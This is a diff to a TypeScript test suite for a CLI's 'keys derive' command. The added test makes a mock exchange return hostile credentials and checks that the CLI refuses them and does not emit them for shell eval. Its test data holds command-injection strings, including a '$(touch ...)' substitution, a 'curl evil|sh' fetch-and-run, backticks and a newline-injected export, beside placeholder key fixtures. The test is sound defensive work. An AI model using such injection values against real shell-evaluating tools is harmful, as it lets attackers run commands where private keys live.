@@ -14,6 +14,8 @@ const PK = '0x5de4111afa1a4b94908f83103eb1f1706367c2e68ca870fc3fb9a804cdab365a';
 const CREDS = { apiKey: 'k-11111111-2222-4333-8444-555555555555', secret: 'c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LQ==', passphrase: 'p-pass' };
 let srv: TestServer;
 const created = new Set<string>();
+/** What the venue answers instead of CREDS (a hostile or broken endpoint). */
+let answer: Record<string, string> | undefined;
 
 async function l1Valid(r: Received): Promise<string | undefined> {
   const h = r.headers;
@@ -43,7 +45,7 @@ beforeAll(async () => {
       if (r.method === 'POST' && r.path === '/auth/api-key') {
         if (created.has(address)) return send(res, 400, { error: 'Could not create api key' });
         created.add(address);
-        return send(res, 200, CREDS);
+        return send(res, 200, answer ?? CREDS);
       }
       if (r.method === 'GET' && r.path === '/auth/derive-api-key' && created.has(address)) return send(res, 200, CREDS);
       send(res, 404, { error: 'not found' });
@@ -86,6 +88,23 @@ describe('makerd keys derive', () => {
     expect(r.stdout).toBe(`export MAKERD_API_KEY=${CREDS.apiKey}\nexport MAKERD_API_SECRET=${CREDS.secret}\nexport MAKERD_API_PASSPHRASE=${CREDS.passphrase}\n`);
     expect(r.stdout).not.toContain(PK.slice(2));
   }, 30_000);
+
+  it('an answer holding anything but the characters of a key, base64 or a passphrase is refused (exit 1), never printed for eval to run', async () => {
+    // the lines are meant for eval: a MAKERD_CLOB_URL answering "$(...)" or "x; cmd" would run a command
+    // in the shell that holds MAKERD_PRIVATE_KEY
+    const hostile = ['s$(touch /tmp/makerd-pwned)', 'p;curl evil|sh', 'p`id`', 'p p', "p'q", 'p\nexport X=1'];
+    for (const [i, bad] of hostile.entries()) {
+      answer = { ...CREDS, [i % 2 ? 'passphrase' : 'secret']: bad };
+      // a fresh wallet each time: the create answers
+      const pk = `0x${(BigInt(PK) + BigInt(i + 1)).toString(16).padStart(64, '0')}`;
+      const r = await run({ MAKERD_PRIVATE_KEY: pk });
+      expect(r.code, bad).toBe(1);
+      expect(r.out, bad).toEqual([]);
+      expect(r.err.join('\n'), bad).toMatch(/refused/);
+      expect(r.err.join('\n'), bad).not.toContain(bad);
+    }
+    answer = undefined;
+  });
 
   it('a malformed MAKERD_PRIVATE_KEY is a config error (exit 2) naming the variable, not its value', async () => {
     const bad = '0x1234nothex';
